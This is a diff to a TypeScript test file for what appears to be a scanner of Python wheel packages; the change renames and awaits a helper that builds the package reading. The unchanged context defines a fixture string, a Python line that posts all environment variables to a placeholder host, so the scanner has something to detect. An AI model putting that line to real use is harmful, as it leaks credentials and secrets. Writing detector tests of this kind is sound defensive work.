@@ -1,7 +1,7 @@
 import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { sha256 } from '../../src/model/digest.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 
 const SEND =
   'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
@@ -9,7 +9,7 @@ const SEND =
 type Files = Readonly<Record<string, string>>
 
 async function findings(files: Files): Promise<readonly string[]> {
-  const facts = await inspect(readingOf('wheel', files), { digest: sha256('x'), readAs: 'wheel' })
+  const facts = await inspect(await packedReading('wheel', files), { digest: sha256('x'), readAs: 'wheel' })
   return facts.findings.map(({ check, severity }) => `${check} ${severity}`)
 }
 
